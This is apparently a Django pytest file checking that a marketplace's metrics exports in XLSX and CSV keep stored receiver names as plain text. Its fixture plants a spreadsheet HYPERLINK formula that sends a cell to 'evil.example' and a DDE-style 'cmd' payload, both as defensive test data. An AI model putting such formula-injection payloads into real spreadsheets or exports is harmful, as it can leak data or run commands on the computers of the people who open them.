"""The public metrics exports carry stored text as text (issue #11): a receiver named
like a formula stays text, and a control character stored before input refused
them cannot make the export fail for everybody."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from circularcities.marketplace.models import Exchange
from circularcities.marketplace.services import record_exchange

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def hostile_exchanges(seller, offer):
    record_exchange(seller, offer, Decimal("1"), receiver_name="A resident", date=dt.date(2025, 2, 1))
    record_exchange(seller, offer, Decimal("2"), receiver_name="Another", date=dt.date(2025, 2, 3))
    # Written past the service on purpose: data stored before input refused such text.
    first, second = Exchange.objects.filter(city__slug="amsterdam").order_by("date")
    Exchange.objects.filter(pk=first.pk).update(receiver_name=LINK)
    Exchange.objects.filter(pk=second.pk).update(receiver_name="Bad\x02name=cmd|' /C calc'!A0")


def test_metrics_workbook_has_no_formula_and_survives_control_characters(client, hostile_exchanges):
    resp = client.get("/marketplace/metrics.xlsx?city=amsterdam")
    assert resp.status_code == 200
    wb = load_workbook(io.BytesIO(resp.content))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value: c for c in cells if isinstance(c.value, str)}
    assert LINK in values and values[LINK].data_type == "s" and values[LINK].quotePrefix
    assert "Badname=cmd|' /C calc'!A0" in values


def test_metrics_csv_stays_a_table(client, hostile_exchanges):
    resp = client.get("/marketplace/metrics.csv?city=amsterdam")
    assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode())))
    assert rows[0][0] == "Month" and rows[1][:2] == ["2025-02", "2"]
